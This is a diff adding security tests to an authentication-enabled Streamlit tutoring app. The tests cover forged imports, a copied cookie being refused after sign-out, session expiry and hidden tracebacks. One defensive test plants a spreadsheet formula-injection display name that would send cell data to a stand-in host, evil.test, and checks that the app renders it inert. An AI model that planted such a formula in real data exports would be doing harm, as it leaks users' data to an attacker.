@@ -5,7 +5,8 @@ roles from configuration; and the Class page. Without `[auth]` the app is unchan
 from __future__ import annotations
 
 import re
-from datetime import timedelta
+import time
+from datetime import UTC, datetime, timedelta
 
 import pytest
 from streamlit.testing.v1 import AppTest
@@ -21,11 +22,13 @@ AUTH = {"redirect_uri": "http://localhost:8501/oauth2callback", "cookie_secret":
         "client_id": "tutor", "client_secret": "test-only",
         "server_metadata_url": f"{ISSUER}/.well-known/openid-configuration"}
 ROLES = {"instructor_emails": ["lee@school.test"], "instructor_groups": ["dl-staff"]}
-ADA = {"is_logged_in": True, "iss": ISSUER, "sub": "sub-ada", "name": "Ada",
-       "email": "ada@school.test"}
-BO = {"is_logged_in": True, "iss": ISSUER, "sub": "sub-bo", "name": "Bo", "email": "bo@school.test"}
-LEE = {"is_logged_in": True, "iss": ISSUER, "sub": "sub-lee", "name": "Lee",
-       "email": "lee@school.test"}
+# What Streamlit keeps of an identity token: its claims, times and nonce included.
+ISSUED = int(time.time())
+TOKEN = {"is_logged_in": True, "iss": ISSUER, "iat": ISSUED, "exp": ISSUED + 3600}
+ADA = {**TOKEN, "sub": "sub-ada", "nonce": "n-ada", "name": "Ada", "email": "ada@school.test"}
+BO = {**TOKEN, "sub": "sub-bo", "nonce": "n-bo", "name": "Bo", "email": "bo@school.test"}
+LEE = {**TOKEN, "sub": "sub-lee", "nonce": "n-lee", "name": "Lee", "email": "lee@school.test",
+       "email_verified": True}
 
 
 
@@ -125,6 +128,62 @@ def test_an_imported_file_naming_another_profile_lands_in_ones_own(store):
     assert store.count_attempts(bo) == 3 and len(store.list_profiles()) == 2
 
 
+def test_a_forged_import_is_marked_on_the_dashboard_and_left_out_of_the_class(store):
+    ada = _with_attempts(store, ADA, 1)  # one wrong first try, answered here
+    mallory = profile_for_identity(store, ISSUER, "sub-mal", "Mallory")
+    for k in range(5):
+        store.record_attempt(mallory.id, NewAttempt(f"q{k}", "correct", score=1.0),
+                             now=utc_now() - timedelta(days=2, minutes=k))
+    import_json(store, export_json(store, mallory.id), into_profile_id=ada)  # "her" correct ones
+    at = shell(ADA, "dashboard")
+    table = next(d.value for d in at.dataframe if "Where" in d.value.columns)
+    assert sorted(table["Where"]) == ["Practice"] + ["Practice (imported)"] * 5
+    lee = shell(LEE, "class_view")
+    row = lee.dataframe[0].value.set_index("Learner").loc["Ada"]
+    assert (row["First tries"], row["Accuracy"]) == (1, "0%")
+
+
+@pytest.mark.parametrize("allowed", [False, True])
+def test_an_instructor_can_turn_importing_off(store, allowed):
+    at = AppTest.from_file(str(APP), default_timeout=TIMEOUT)
+    at.secrets["auth"], at.secrets["roles"] = AUTH, ROLES
+    at.secrets["imports"] = {"allowed": allowed}
+    at.user = dict(ADA)
+    at.query_params["lang"] = "zh"
+    at.run()
+    at.switch_page("app_pages/dashboard.py").run()
+    assert not at.exception, at.exception
+    assert ("本课程已关闭导入功能" in " ".join(i.value for i in at.info)) is not allowed
+    assert bool(at.get("file_uploader")) is allowed
+
+
+def test_a_display_name_that_is_a_formula_is_drawn_inert(store):
+    # The provider's `name` claim, which some providers let a user edit.
+    evil = '=HYPERLINK("http://evil.test/?"&A1,"Ada")'
+    _with_attempts(store, {**BO, "name": evil}, 1)
+    at = shell(LEE, "class_view")
+    for table in at.dataframe:  # what the toolbar's CSV download writes
+        names = list(table.value["Learner"])
+        assert f"'{evil}" in names and evil not in names
+
+
+def test_a_learner_never_sees_a_traceback(store, monkeypatch):
+    from streamlit import config
+
+    secret = "connection to /srv/tutor/secret.db refused"
+
+    def broken(*_args, **_kwargs):
+        raise RuntimeError(secret)
+
+    monkeypatch.setattr("tutor.dashboard.dashboard_data", broken)
+    at = shell(ADA)
+    at.switch_page("app_pages/dashboard.py").run()
+    shown = at.exception[0]
+    assert secret not in shown.message and "RuntimeError" not in shown.message
+    assert not shown.stack_trace
+    assert config.get_option("client.showErrorDetails") == "none"
+
+
 def test_learners_cannot_reach_the_instructor_pages(store):
     at = shell(ADA)
     for page in ("class_view", "author", "analytics"):
@@ -155,6 +214,68 @@ def test_a_learner_signs_out(store):
     at = shell(ADA, "dashboard")
     next(b for b in at.sidebar.button if b.label == "Sign out").click().run()
     assert [b.label for b in at.button] == ["Sign in"]
+
+
+def _ended(at: AppTest) -> bool:
+    return [b.label for b in at.button] == ["Sign in"] and any(
+        "sign-in has ended" in i.value for i in at.info) and at.session_state["profile_id"] is None
+
+
+def test_a_copy_of_the_cookie_is_refused_after_signing_out(store):
+    at = shell(ADA, "dashboard")
+    thief = shell(ADA, "dashboard")  # the same claims: what a copied cookie opens
+    assert thief.session_state["profile_id"] == _own(store, ADA)
+    next(b for b in at.sidebar.button if b.label == "Sign out").click().run()
+    assert _ended(shell(ADA))  # a new session with the copy
+    thief.run()  # the session the copy had already opened, at its next run
+    assert _ended(thief)
+    # Her next sign-in (a new token: a new nonce and issue time) works; Bo was never affected.
+    assert shell({**ADA, "nonce": "n-ada-2", "iat": ISSUED + 1}, "dashboard").session_state[
+        "profile_id"] == _own(store, ADA)
+    assert shell(BO).session_state["profile_id"] == _own(store, BO)
+
+
+def test_with_the_database_away_an_open_session_carries_on_and_a_new_one_waits(store, monkeypatch):
+    from tutor.store import StoreUnavailable
+
+    at = shell(ADA, "dashboard")
+
+    def away(*_args):
+        raise StoreUnavailable("unreachable")
+
+    monkeypatch.setattr("tutor.store.sign_outs.sign_in_ended", away)
+    at.run()  # vouched for before: not thrown out by a database restart
+    assert at.session_state["profile_id"] == _own(store, ADA)
+    # A session the database never vouched for (a copied cookie?) waits for it, and is told why.
+    new = shell(ADA)
+    assert [b.label for b in new.button] == ["Sign in"] and new.session_state["profile_id"] is None
+    assert any("cannot be checked right now" in i.value for i in new.info)
+
+
+@pytest.mark.parametrize(("claims", "section"), [
+    ({**ADA, "iat": ISSUED - 10 * 3600 - 1}, {}),  # older than a school day
+    ({**ADA, "iat": ISSUED - 3 * 3600}, {"max_hours": 2}),
+    ({**ADA, "iat": ISSUED - 120, "exp": ISSUED - 60}, {"end_at_token_expiry": True}),
+    ({k: v for k, v in ADA.items() if k != "iat"}, {}),  # nothing bounds it
+])
+def test_an_old_or_expired_sign_in_gets_the_login_screen(store, claims, section):
+    at = AppTest.from_file(str(APP), default_timeout=TIMEOUT)
+    at.secrets["auth"], at.secrets["roles"], at.secrets["sign_in"] = AUTH, ROLES, section
+    at.user = dict(claims)
+    at.query_params["lang"] = "en"
+    at.run()
+    assert not at.exception, at.exception
+    assert _ended(at) and not at.sidebar.button
+    assert store.list_profiles() == []
+
+
+def test_a_running_session_ends_when_its_time_is_up(store, monkeypatch):
+    at = shell(ADA, "dashboard")
+    assert at.session_state["profile_id"] == _own(store, ADA)
+    later = datetime.fromtimestamp(ISSUED + 10 * 3600, UTC)
+    monkeypatch.setattr("tutor.store.utc_now", lambda: later)
+    at.run()  # the next click, ten hours on
+    assert _ended(at)
 
 
 def test_without_auth_the_app_keeps_local_profiles(database_url):  # noqa: F811
